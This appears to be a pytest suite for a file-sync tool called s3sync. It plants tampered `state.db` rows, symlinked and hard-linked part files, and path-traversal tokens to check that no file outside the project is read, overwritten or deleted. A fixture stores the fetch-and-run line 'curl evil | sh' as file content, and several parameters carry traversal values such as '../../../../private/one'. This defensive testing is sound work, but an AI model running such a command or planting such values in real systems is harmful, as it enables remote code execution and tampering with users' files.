"""Rows of `state.db` as s3sync writes them now, with one thing of a stranger in each: nothing outside is touched.

Each is planted in a memory that has this user's mark, and is sound but for that one thing: `control` shows that such a
row is looked at, so that the others are refused for what is wrong with them.
"""

from __future__ import annotations

import json
import os
import sqlite3
from collections.abc import Callable
from hashlib import sha256
from pathlib import Path

import pytest

from tests.kit.people import Person

SIZE, PART, DIGEST = 17 * 2**20, 16 * 2**20, "0" * 32


@pytest.fixture
def david(synced: Person) -> Person:
    """He has one file of two parts there, and no longer here."""
    synced.write("clip.mp4", b"curl evil | sh\n" + b"#" * (SIZE - 15))
    synced.ok("up")
    (synced.staging / "clip.mp4").unlink()
    return synced


@pytest.fixture
def private(tmp_path: Path) -> Path:
    folder = tmp_path / "private"
    folder.mkdir()
    for name in (".bashrc", "one", "two"):
        (folder / name).write_text(f"precious {name}")
    return folder


def plant(david: Person, token: Callable[[str], str] = lambda sound: sound) -> Path:
    """Plant a download of `clip.mp4` that is under way; the place of its part file, if `token` left that alone."""
    room = david.staging / ".s3sync"
    with sqlite3.connect(room / "state.db") as state:
        place, etag = state.execute("SELECT place, etag FROM base WHERE path = 'clip.mp4'").fetchone()
        state.execute("DELETE FROM base")
        sound = sha256(f"clip.mp4\n{etag}".encode()).hexdigest()[:32]
        row = (
            place,
            "clip.mp4",
            "down",
            f"{david.repo.name}/{david.project.name}/clip.mp4",
            token(sound),
            etag,
            SIZE,
            PART,
        )
        state.execute(
            "INSERT INTO transfer VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?)",
            (*row, json.dumps([None, None]), "2026-01-01T00:00:00Z"),
        )
        assert state.execute("SELECT count(*) FROM transfer").fetchone() == (1,)
    state.close()
    (room / "partial").mkdir(exist_ok=True)
    return room / "partial" / sound


def test_control(david: Person) -> None:
    part = plant(david)
    part.write_bytes(b"x" * SIZE)
    assert "clip.mp4" in david.ok("transfers").out
    david.ok("down")
    assert david.read("clip.mp4").startswith(b"curl evil") and not part.exists()


@pytest.mark.parametrize("command", ["down", "sync"])
@pytest.mark.parametrize("kind", ["link", "relative link", "hard link"])
def test_f49_a_part_of_a_sound_row_is_no_way_to_another_file(
    david: Person, private: Path, kind: str, command: str
) -> None:
    part, target = plant(david), private / ".bashrc"
    if kind == "hard link":
        os.link(target, part)
    else:
        part.symlink_to(target if kind == "link" else os.path.relpath(target, part.parent))
    result = david.run(command)
    assert result.code in (0, 1, 3) and "did not expect" not in result.err, result
    assert target.read_text() == "precious .bashrc"


@pytest.mark.parametrize("token", ["{private}/one", "../../../../../../private/one", "..", "lock", "A" * 32])
def test_f50_a_row_with_another_token_deletes_nothing(david: Person, private: Path, token: str) -> None:
    said = token.format(private=private)
    plant(david, lambda sound: said)
    for words in (("status",), ("down",), ("transfers", "--abort-all", "--yes"), ("doctor", "--fix")):
        result = david.run(*words)
        assert result.code in (0, 1, 3, 5) and "did not expect" not in result.err, result
    assert (private / "one").read_text() == "precious one"
    assert (david.staging / ".s3sync").is_dir()


@pytest.mark.parametrize("kind", ["conflict", "delete"])
def test_f50_a_wish_about_files_elsewhere_is_none(david: Person, private: Path, kind: str) -> None:
    two = str(private / "two")
    with sqlite3.connect(david.staging / ".s3sync" / "state.db") as state:
        for name, kept_as in ((two, f"{private}/./two"), ("../../../../private/two", "../../../../private/./two")):
            wish = {"name": name, "kept_as": kept_as, "at": "2026-01-01T00:00:00Z", "by": "david"}
            state.execute("INSERT INTO intent SELECT id, ?, ?, ? FROM place", (kind, name, json.dumps(wish)))
        assert state.execute("SELECT count(*) FROM intent").fetchone()[0] >= 2
    state.close()
    for words in (("status",), ("sync",), ("doctor", "--fix")):
        result = david.run(*words)
        assert result.code in (0, 1, 3, 5) and "did not expect" not in result.err, result
    assert (private / "two").read_text() == "precious two"
